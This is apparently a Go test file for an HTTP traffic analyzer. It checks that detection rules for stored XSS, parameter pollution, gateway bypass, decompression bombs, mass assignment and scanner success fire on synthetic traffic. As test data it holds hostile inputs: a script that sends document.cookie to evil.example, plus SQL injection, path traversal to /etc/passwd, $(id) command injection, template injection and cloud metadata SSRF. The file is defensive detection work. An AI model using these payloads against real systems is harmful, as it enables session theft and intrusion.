package posture

import (
	"strings"
	"testing"

	"plainsight/analyze"
)

// field makes n requests with a value in a field, of a caller each.
func field(n int, value string) []talk {
	return []talk{{text: `POST /a HTTP/1.1` + by(1) + "\n\n" + `{"qty":` + value + `}` + ok, times: n, every: tenth}}
}

func query(n int, value string) []talk {
	return []talk{{text: "GET /a?qty=" + value + " HTTP/1.1" + by(1) + ok, times: n, every: tenth}}
}

func pay(n int, value string) []talk {
	return []talk{{text: "GET /a?amount=" + value + " HTTP/1.1" + by(1) + ok, times: n, every: tenth}}
}

func page(markup string) string {
	return "\n---\n200\nContent-Type: text/html; charset=utf-8\n\n<html><script src=/app.js></script><p>" + markup + "</p>"
}

func comment(who int, text string) talk {
	return talk{text: `POST /comments HTTP/1.1` + by(who) + "\n\n" + `{"text":"` + text + `"}` + "\n---\n201"}
}

const alert = "<script>fetch('//evil.example/'+document.cookie)</script>"

// direct is a call of a public client at an inner address, through a gateway or
// not.
func direct(n int, mark, from string) []talk {
	return []talk{{text: "GET /a HTTP/1.1" + mark + by(1) + ok, from: from, times: n}}
}

const through = "\nX-Forwarded-For: 203.0.113.7"

func bomb(coded, decoded int64, stopped bool) []talk {
	return []talk{{text: "POST /a HTTP/1.1\nContent-Encoding: gzip" + ok, expands: Expansion{coded, decoded, stopped}}}
}

func scanned(text string) []talk {
	return []talk{{text: strings.Replace(text, " HTTP/1.1", " HTTP/1.1\nUser-Agent: sqlmap/1.8", 1)}}
}

var inputSequences = []sequence{
	{rule: "val.accepted", fires: [][]talk{
		join(field(1000, "7"), field(3, `"many"`)), join(query(1200, "12"), query(5, "abc")), join(query(1000, "true"), query(4, "maybe")),
		join(query(1000, "a8098c1a-f86e-11da-bd1a-00112444be1e"), query(3, "admin")), join(field(1500, `"short text here"`), field(3, `"`+strings.Repeat("long ", 100)+`"`)),
	}, worst: analyze.Low, silent: [][]talk{
		join(field(900, "7"), field(3, `"many"`)), join(field(1000, "7"), field(2, `"many"`)), join(field(1000, "7"), field(100, `"many"`)),
		join(field(1200, `"word"`), field(5, "7")), join(field(1200, "7"), field(9, "null")), join(query(1200, "7"), query(9, "")),
		join(query(1500, "7.5"), query(9, "7")), join(query(2000, "7"), []talk{{text: "GET /a?qty=x HTTP/1.1\n---\n400", times: 9}}),
		join(field(1500, `"short text here"`), field(3, `"`+strings.Repeat("long ", 25)+`"`)),
	}},
	{rule: "hpp", fires: [][]talk{
		join(pay(20, "1"), pay(1, "1&amount=2")), join(pay(20, "1"), pay(2, "1&a=b&amount=9")), join(pay(40, "1&id=7"), pay(1, "1&id=7&id=8")),
		join(pay(10, "1"), pay(1, "x&amount=admin")), join(pay(20, "1"), []talk{{text: "POST /a?amount=1&amount=3 HTTP/1.1" + by(2) + ok}}),
	}, worst: analyze.Low, silent: [][]talk{
		join(pay(20, "1"), pay(1, "1&amount=1")), join(pay(20, "1"), pay(1, "1&ids[]=2&ids[]=3")), join(pay(20, "1"), pay(1, "1&expand=a&expand=b")), join(pay(20, "1"), pay(1, "1&status=open&status=new")), join(pay(20, "1"), pay(20, "1&amount=2")),
		join(pay(5, "1"), pay(1, "1&amount=2")), join(pay(40, "1"), []talk{{text: "GET /a?amount=1&amount=2 HTTP/1.1" + by(1) + ok}, {text: "GET /a?amount=1&amount=2 HTTP/1.1" + by(2) + ok}, {text: "GET /a?amount=1&amount=2 HTTP/1.1" + by(3) + ok}}),
		join(pay(20, "1"), []talk{{text: "GET /a?amount=1&amount=2 HTTP/1.1" + by(1) + "\n---\n400"}}),
	}},
	{rule: "xss.stored", fires: [][]talk{
		{comment(1, alert), {text: "GET /wall HTTP/1.1" + by(2) + page(alert)}},
		{comment(1, "hi <img src=x onerror=alert(document.domain)> all"), {text: "GET /wall HTTP/1.1" + by(2) + page("hi <img src=x onerror=alert(document.domain)> all")}},
		{comment(1, alert), {text: "GET /wall HTTP/1.1" + by(1) + page(alert)}, {text: "GET /wall HTTP/1.1" + page(alert), from: foreign}},
		{{text: "GET /save?name=%3Csvg%20onload%3Dstealcookies()%3E HTTP/1.1" + by(1) + ok}, {text: "GET /wall HTTP/1.1" + by(3) + page("<svg onload=stealcookies()>")}},
		{{text: "POST /a HTTP/1.1" + by(1) + "\n\n" + `{"bio":"` + alert + `"}` + ok}, {text: "GET /wall HTTP/1.1" + by(5) + page("<script>app()</script>"+alert), times: 9}},
	}, worst: analyze.High, silent: [][]talk{
		{comment(1, alert), {text: "GET /wall HTTP/1.1" + by(1) + page(alert)}},
		{comment(1, alert), {text: "GET /wall HTTP/1.1" + by(2) + page(strings.ReplaceAll(alert, "<", "&lt;"))}},
		{comment(1, alert), {text: "GET /wall HTTP/1.1" + by(2) + "\n---\n200\nContent-Type: application/json\n\n{\"text\":\"" + alert + "\"}"}},
		{{text: "GET /wall HTTP/1.1" + by(2) + page(alert)}, comment(1, alert), {text: "GET /wall HTTP/1.1" + by(2) + page(alert)}},
		{comment(1, "<script>alert(1234)</script>"), {text: "GET /wall HTTP/1.1" + by(2) + page("<script>alert(9876)</script>")}},
		{{text: strings.Replace(comment(1, alert).text, "---\n201", "---\n422", 1)}, {text: "GET /wall HTTP/1.1" + by(2) + page(alert)}},
		{comment(1, "<b>bold words</b>"), {text: "GET /wall HTTP/1.1" + by(2) + page("<b>bold words</b>")}},
	}},
	{rule: "gw.bypass", fires: [][]talk{
		join(direct(60, through, ""), direct(1, "", foreign)), join(direct(60, "\nVia: 1.1 edge", ""), direct(3, "", "198.51.100.4")),
		join(direct(100, "\nX-Envoy-Attempt-Count: 1", ""), direct(5, "", foreign)), join(direct(60, "\nForwarded: for=192.0.2.60", ""), direct(40, "", ""), direct(2, "", foreign)),
		join(direct(60, "\nX-Amzn-Trace-Id: Root=1-2", ""), []talk{{text: "POST /a HTTP/1.1" + ok, from: foreign}}),
	}, worst: analyze.High, silent: [][]talk{
		join(direct(40, through, ""), direct(1, "", foreign)), join(direct(60, through, ""), direct(30, "", foreign)), join(direct(60, through, ""), direct(20, "", "")),
		join(direct(60, through, ""), direct(9, through, foreign)), join(direct(60, through, ""), []talk{{text: "GET /health HTTP/1.1" + ok, from: foreign}}),
		join(direct(60, through, ""), []talk{{text: "GET /a HTTP/1.1\n---\n403", from: foreign}}), join(direct(60, through, ""), []talk{{text: "GET /a HTTP/1.1" + ok, from: foreign, to: "198.51.100.1:80"}}),
	}},
	{rule: "res.bomb", fires: [][]talk{
		bomb(50_000, 20<<20, false), bomb(20_000, 4<<20, true), bomb(1100, 280<<10, true), bomb(100_000, 12<<20, false), bomb(40_000, 40<<20, true),
	}, worst: analyze.Medium, silent: [][]talk{
		bomb(500_000, 20<<20, false), bomb(20_000, 4<<20, false), bomb(100, 100<<10, true), bomb(4<<20, 4<<20, true), bomb(0, 20<<20, true), bomb(2<<20, 11<<20, false),
	}},
	{rule: "test.scan-success", fires: [][]talk{
		scanned("GET /a?q=1'+OR+'1'%3D'1 HTTP/1.1\n---\n500\n\nYou have an error in your SQL syntax"), scanned("GET /a?f=../../etc/passwd HTTP/1.1\n---\n200\n\nroot:x:0:0:root:/root:/bin/sh"),
		scanned("GET /a?n={{191*7}} HTTP/1.1\n---\n200\n\nHello 1337!"), scanned("GET /a?h=$(id) HTTP/1.1\n---\n200\n\nuid=0(root) gid=0(root)"), scanned("GET /a?u=http://169.254.169.254/ HTTP/1.1\n---\n200\n\nami-id\nhostname"),
	}, worst: analyze.Critical, silent: [][]talk{
		scanned("GET /a?q=1'+OR+'1'%3D'1 HTTP/1.1\n---\n500\n\nsorry"), {{text: "GET /a?f=../../etc/passwd HTTP/1.1\n---\n200\n\nroot:x:0:0:root:/root:/bin/sh"}}, scanned("GET /a?f=../../etc/passwd HTTP/1.1\n---\n404\n\nno"),
		scanned("GET /a?q=shoes HTTP/1.1\n---\n500\n\nYou have an error in your SQL syntax"), scanned("GET /a?n={{191*7}} HTTP/1.1\n---\n200\n\n{{191*7}}"),
	}},
	{rule: "res.unbounded", fires: [][]talk{
		{{text: "GET /a HTTP/1.1" + items(150, 8000)}}, {{text: "GET /a?sort=name HTTP/1.1" + items(5000, 300)}}, {{text: "GET /a?size=9999 HTTP/1.1" + items(600, 10)}},
	}, worst: analyze.Low, silent: [][]talk{
		{{text: "GET /a?offset=100 HTTP/1.1" + items(150, 8000)}}, {{text: "GET /a HTTP/1.1" + items(150, 800)}}, {{text: "GET /a HTTP/1.1" + items(50, 30_000)}},
		{{text: "GET /a HTTP/1.1" + strings.Replace(items(150, 8000), "application/json", "application/x-json-stream", 1)}},
	}},
	{rule: "mass.assign", template: "/users", fires: [][]talk{
		{made(12, `{"name":"jo"}`, `{"id":1,"name":"jo","role":"user"}`), made(1, `{"name":"jo","role":"admin"}`, `{"id":1,"name":"jo","role":"admin"}`)},
		{made(30, `{"name":"jo"}`, `{"id":1,"balance":0}`), made(2, `{"name":"jo","balance":9000}`, `{"id":1,"balance":9000}`)},
		{made(12, `{"name":"jo"}`, `{"id":1}`), made(1, `{"name":"jo","verified":true}`, `{"id":1,"verified":true}`)},
		{made(12, `{"name":"jo"}`, `{"id":1}`), made(1, `{"isAdmin":true}`, `{"id":1,"isAdmin":true}`)},
		{made(12, `{"name":"jo"}`, `{"id":1}`), made(1, `{"permissions":"all"}`, `{"id":1,"permissions":"all"}`)},
	}, worst: analyze.High, silent: [][]talk{
		{made(12, `{"name":"jo"}`, `{"id":1}`), made(1, `{"name":"jo","role":"admin"}`, `{"id":1,"name":"jo","role":"user"}`)},
		{made(12, `{"name":"jo"}`, `{"id":1}`), made(12, `{"name":"jo","role":"admin"}`, `{"role":"admin"}`)},
		{made(1, `{"name":"jo","role":"admin"}`, `{"role":"admin"}`)},
		{made(12, `{"name":"jo"}`, `{"id":1}`), made(1, `{"admin":false}`, `{"admin":false}`)},
		{made(12, `{"name":"jo"}`, `{"id":1}`), {text: `POST /admin/users HTTP/1.1` + "\n\n" + `{"role":"admin"}` + "\n---\n200\n\n" + `{"role":"admin"}`}},
		{made(12, `{"name":"jo"}`, `{"id":1}`), {text: `POST /users HTTP/1.1` + "\n\n" + `{"role":"admin"}` + "\n---\n403\n\n" + `{"role":"admin"}`}},
	}},
	{rule: "val.5xx", fires: [][]talk{
		join(query(20, "1"), []talk{{text: "GET /a?v=1'+OR+'1'%3D'1 HTTP/1.1\n---\n500\n\noops"}}), join(query(20, "1"), []talk{{text: "GET /a?v=../../../etc/passwd HTTP/1.1\n---\n502"}}),
		join(query(10, "1"), []talk{{text: "GET /a?v={{7*7}} HTTP/1.1\n---\n500"}}), join(query(50, "1"), []talk{{text: "GET /a?v=1 HTTP/1.1\n---\n500"}, {text: "GET /a?v=$(id) HTTP/1.1\n---\n500"}}),
		join(query(20, "1"), []talk{{text: `POST /a HTTP/1.1` + "\n\n" + `{"user":{"$ne":""}}` + "\n---\n500"}}),
	}, worst: analyze.Low, silent: [][]talk{
		join(query(20, "1"), []talk{{text: "GET /a?v=1 HTTP/1.1\n---\n500", times: 20}, {text: "GET /a?v=1'+OR+'1'%3D'1 HTTP/1.1\n---\n500"}}), join(query(5, "1"), []talk{{text: "GET /a?v=1'+OR+'1'%3D'1 HTTP/1.1\n---\n500"}}),
		join(query(20, "1"), []talk{{text: "GET /a?v=1'+OR+'1'%3D'1 HTTP/1.1\n---\n400"}}), join(query(20, "1"), []talk{{text: "GET /a?v=O'Brien HTTP/1.1\n---\n500"}}), join(query(20, "1"), []talk{{text: "GET /a?v=1'+OR+'1'%3D'1 HTTP/1.1" + ok}}),
	}},
}

// items is an answer that lists n things of so many bytes.
func items(n, size int) string {
	return "\n---\n200\nContent-Type: application/json\n\n[" + strings.TrimSuffix(strings.Repeat(`{"a":"`+strings.Repeat("x", size)+`"},`, n), ",") + "]"
}

func made(n int, request, answer string) talk {
	return talk{text: `POST /users HTTP/1.1` + "\n\n" + request + "\n---\n201\n\n" + answer, times: n}
}

// Pages made to be slow to read are read at the speed of others.
func BenchmarkHostilePages(b *testing.B) {
	r := NewReader(analyze.Key{1}, Options{})
	for name, page := range map[string]string{"tags": strings.Repeat("<a", 32<<10), "handlers": strings.Repeat("<a onx=", 9<<10), "scripts": strings.Repeat("<script>", 8<<10), "one": "<a " + strings.Repeat(" on", 20<<10)} {
		b.Run(name, func(b *testing.B) {
			body := []byte(page)
			b.SetBytes(int64(len(body)))
			for b.Loop() {
				var endpoint, service State
				o := r.Begin()
				o.Method, o.Status, o.ResponseBody, o.At = "GET", 200, body, moment(1)
				o.ResponseHeader([]byte("content-type"), []byte("text/html"))
				o.Done()
				Observe(o, &endpoint, &service)
			}
		})
	}
}

func TestFormsOfValues(t *testing.T) {
	for text, want := range map[string]form{
		"": formEmpty, "7": formInteger, "-7": formNegative, "7.5": formDecimal, "-7.5": formNegative, "true": formBoolean, "fals": formText, "2026-01-02": formDate, "2026-01-02T10:00:00Z": formDate,
		"a8098c1a-f86e-11da-bd1a-00112444be1e": formUUID, "1.2.3": formText, ".": formText, "-": formText, "12345678901234567890123456": formText, "abc": formText, "1,5": formText, "1e5": formText,
	} {
		if got := formOf([]byte(text)); got != want {
			t.Errorf("%q: %s, want %s", text, formNames[got], formNames[want])
		}
	}
}

func TestLearningInputAllocatesNothing(t *testing.T) {
	r := NewReader(analyze.Key{1}, Options{})
	var endpoint, service State
	names, value := [][]byte{[]byte("page"), []byte("qty"), []byte("sku"), []byte("note")}, []byte("17")
	if n := testing.AllocsPerRun(200, func() {
		o := r.Begin()
		o.Method, o.Status, o.Path, o.At = "GET", 200, names[2], moment(int(o.seq))
		for _, k := range names {
			o.Parameter(k, value)
			o.Field(k, value)
		}
		o.Done()
		Observe(o, &endpoint, &service)
	}); n > 0 {
		t.Errorf("%v allocations", n)
	}
}
